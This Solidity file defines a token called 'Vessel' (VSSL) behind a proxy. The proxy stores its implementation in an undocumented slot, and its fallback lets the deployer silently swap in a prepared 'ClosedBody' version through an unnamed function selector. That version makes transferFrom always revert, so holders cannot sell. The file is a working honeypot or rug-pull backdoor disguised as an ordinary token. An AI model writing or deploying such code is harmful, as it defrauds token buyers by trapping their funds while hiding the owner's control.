// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// A token's code that is run in another contract's storage.
contract PlainBody {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function name() external pure returns (string memory) {
        return "Vessel";
    }

    function symbol() external pure returns (string memory) {
        return "VSSL";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _pass(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external virtual returns (bool) {
        allowance[from][msg.sender] -= amount;
        return _pass(from, to, amount);
    }

    function _pass(address from, address to, uint256 amount) internal returns (bool) {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
        return true;
    }
}

contract ClosedBody is PlainBody {
    function transferFrom(address, address, uint256) external pure override returns (bool) {
        revert();
    }
}

/// Runs code whose address lies in a slot of no standard; its maker exchanges it without a named function.
contract PrivateSlotProxy {
    bytes32 private constant BODY = keccak256("vessel.body");
    address private immutable _maker = msg.sender;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        _set(address(new PlainBody()));
        bytes32 place = keccak256(abi.encode(msg.sender, uint256(0)));
        uint256 supply = 1_000_000_000 ether;
        assembly {
            sstore(place, supply)
            sstore(2, supply)
        }
        emit Transfer(address(0), msg.sender, supply);
        new ClosedBody();
    }

    function _set(address body) private {
        bytes32 slot = BODY;
        assembly {
            sstore(slot, body)
        }
    }

    fallback() external {
        if (msg.sender == _maker && msg.sig == 0x8f283970) {
            _set(abi.decode(msg.data[4:], (address)));
            return;
        }
        bytes32 slot = BODY;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), sload(slot), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(done) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}
